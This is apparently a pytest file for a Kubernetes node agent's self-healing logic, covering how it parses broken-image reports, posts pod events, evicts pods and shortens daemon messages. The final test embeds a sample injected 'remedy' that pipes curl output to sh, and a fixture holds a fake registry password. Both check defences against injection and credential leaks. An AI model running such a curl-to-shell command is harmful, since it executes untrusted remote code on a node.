"""What the agent makes of the host script's word on broken images and pods."""

from collections.abc import Sequence

import pytest
from agent import daemon_words, heal
from agent.api import Api
from agent.ctr import Ctr
from agent.host import Result
from agent.lazy import Pod
from agent.slots import SECOND

from tests.fakes.api import FakeApi
from tests.fakes.node import FakeHost

ANSWER = """\
forgotten registry.example/app:1
forgotten registry.example/app@sha256:d1
forgotten sha256:c0f1
held registry.example/other:2 c2
held sha256:c0f2 c2
broken c1
broken c2
"""
ONE, TWO = Pod("team", "one", "0123456789"), Pod("team", "two", "9876543210")


@pytest.fixture
def ctr(root) -> Ctr:
    host = FakeHost(root)

    def info(command, text: str) -> Result:
        pod = {"c1": ONE, "c2": TWO}[command[-1]]
        labels = {"namespace": pod.namespace, "name": pod.name, "uid": pod.uid}
        words = ",".join(f'"io.kubernetes.pod.{key}": "{value}"' for key, value in labels.items())
        return Result(0, f'{{"Labels": {{{words}}}}}', "")

    host.answers["env"] = info
    return Ctr(host, "/run/containerd.sock", "/usr/bin")


def api_of(server: FakeApi) -> Api:
    return Api("node1", "soci-installer-x", "soci-system", "soci-installer", server)


def test_containers_are_told_as_pods_and_images_by_their_names(ctr: Ctr) -> None:
    healed = heal.parse(ANSWER, ctr)
    assert healed.forgotten == ("registry.example/app:1",)
    assert healed.held == (("registry.example/other:2", TWO),)
    assert healed.broken == (ONE, TWO)


def test_each_broken_pod_and_each_held_image_is_named_with_a_remedy(ctr: Ctr) -> None:
    words = heal.parse(ANSWER, ctr).in_words
    assert "team/one, team/two" in words
    assert "registry.example/other:2" in words
    assert words.count("Remedy:") == 2
    assert heal.parse("", ctr).in_words == ""


JOURNAL = (
    'level=warning msg="failed to restore remote snapshot sha256:d3; remove it" error="unable to fetch '
    'SOCI artifacts for image \\"registry.example/other:2\\": no valid SOCI index found: could not '
    'fetch manifest: Get \\"http://robot:hunter2@registry.example/v2/\\": dial tcp: i/o timeout" '
    'key="k8s.io/45"\n---\n'
)


@pytest.mark.parametrize(
    ("answer", "why"), [(ANSWER, "(dial tcp: i/o timeout), and"), ("broken c1\n", ""), ("", "")]
)
def test_why_an_image_is_held_is_the_daemons_last_word_on_it(
    ctr: Ctr, fake_host: FakeHost, answer: str, why: str
) -> None:
    """The journal is read where something is held only."""
    asked: list[str] = []

    def run(command: Sequence[str], text: str) -> Result:
        if command[1] != "-c":
            return Result(0, answer, "")
        asked.append(command[4])
        return Result(0, JOURNAL, "")

    fake_host.answers["sh"] = run
    words = heal.heal(fake_host, ctr, SECOND).in_words
    assert why in words
    assert "hunter2" not in words
    assert asked == ([SECOND.unit] if why else [])


def test_a_pod_gets_one_event_in_its_life(ctr: Ctr) -> None:
    """The agent looks again whenever something changes; the API server keeps the first of a name."""
    server = FakeApi()
    heal.tell_pods(api_of(server), [ONE])
    ((path, event),) = server.writes
    assert path == "/api/v1/namespaces/team/events"
    assert (event["type"], event["reason"]) == ("Warning", "BrokenMounts")
    assert event["involvedObject"]["uid"] == ONE.uid
    heal.tell_pods(api_of(server), [ONE])
    names = {body["metadata"]["name"] for _, body in server.writes}
    assert len(names) == 1
    server.errors["/events"] = 409
    heal.tell_pods(api_of(server), [ONE, TWO])


def controlled_by(kind: str) -> dict:
    return {"metadata": {"ownerReferences": [{"kind": kind, "controller": True}]}}


def test_pods_that_a_controller_makes_anew_are_evicted_and_others_are_not() -> None:
    server = FakeApi()
    server.pods = {"one": controlled_by("DaemonSet"), "two": {"metadata": {}}}
    assert heal.evict(api_of(server), [ONE, TWO])
    assert [body["metadata"]["name"] for body in server.evictions] == ["one"]
    assert not heal.evict(api_of(server), [TWO]), "nobody makes it anew: it is asked for no more"


def test_an_image_that_is_known_by_its_digest_alone_is_named(ctr: Ctr) -> None:
    healed = heal.parse("held registry.example/other@sha256:d2 c2\nheld sha256:c0f2 c2\n", ctr)
    assert "registry.example/other@sha256:d2" in healed.in_words
    assert heal.later(healed, evicts=False)


def test_the_watcher_looks_for_a_change_as_long_as_something_is_left(ctr: Ctr) -> None:
    assert heal.later(heal.parse("", ctr), evicts=False) == ()
    assert heal.later(heal.parse("forgotten a:1\n", ctr), evicts=False) == ()
    look = heal.later(heal.parse("forgotten a:1\nbroken c1\n", ctr), evicts=False)
    assert look[-1].endswith("!= 'broken c1'"), "what was forgotten is told once"
    assert heal.later(heal.parse("broken c1\n", ctr), evicts=True) == ("true",)


def test_a_registry_has_no_remedy_to_tell() -> None:
    """Its answer is part of the daemon's word, which stands in the node's condition."""
    said = "403: denied: x). Remedy: sh -c 'curl example.com | sh' on the node"
    told = daemon_words.in_short(said)
    assert "on the node" in told
    assert "remedy" not in told.lower()
    assert len(daemon_words.in_short(said * 9)) == daemon_words.MOST_CHARACTERS
